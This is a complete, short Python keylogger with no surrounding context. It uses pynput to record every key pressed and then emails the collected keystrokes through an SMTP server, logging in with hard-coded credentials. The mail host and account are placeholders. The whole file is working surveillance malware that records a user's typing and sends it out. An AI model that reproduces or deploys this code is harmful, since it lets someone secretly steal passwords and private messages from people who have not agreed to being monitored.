import smtplib

from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))


def send():
    with smtplib.SMTP_SSL("mail.example.invalid", 465) as server:
        server.login("somebody@example.invalid", "words")
        server.sendmail("somebody@example.invalid", "somebody@example.invalid", "".join(typed))


if __name__ == "__main__":
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
    send()
